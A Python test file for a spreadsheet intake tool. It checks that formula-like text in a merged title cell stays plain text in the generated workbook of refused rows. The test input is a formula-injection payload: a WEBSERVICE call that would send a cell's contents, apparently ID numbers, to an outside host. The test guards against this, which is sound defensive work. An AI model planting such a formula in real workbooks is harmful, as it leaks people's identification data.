"""The workbook of refused rows: what came as text goes back as text."""

import zipfile
from io import BytesIO
from pathlib import Path

import xlsxwriter  # type: ignore[import-untyped]

from intake.guard import IntakeLimits
from intake.refused_rows import refused_workbook
from tests.intake.make import HEADER, household
from tests.intake.reading import TODAY

ASKS = '=WEBSERVICE("http://example.org/?"&D4)'


def test_text_of_a_merged_cell_does_not_become_a_formula(tmp_path: Path) -> None:
    """A title that only looks like a formula would send ID numbers away once it is one."""
    source = tmp_path / "list.xlsx"
    with xlsxwriter.Workbook(str(source)) as book:
        page = book.add_worksheet("名单")
        page.merge_range(0, 0, 0, len(HEADER) - 1, "")
        page.write_string(0, 0, ASKS)
        for at, heading in enumerate(HEADER):
            page.write_string(1, at, heading)
        for at, cell in enumerate(household(1)):
            page.write(2, at, cell)
    made = refused_workbook(source, {("名单", 3): ["身份证号有误"]}, TODAY, IntakeLimits())
    with zipfile.ZipFile(BytesIO(made)) as packed:
        sheet = packed.read("xl/worksheets/sheet1.xml").decode()
        texts = packed.read("xl/sharedStrings.xml").decode()
    assert "<mergeCell " in sheet and "WEBSERVICE" in texts
    assert "<f>" not in sheet
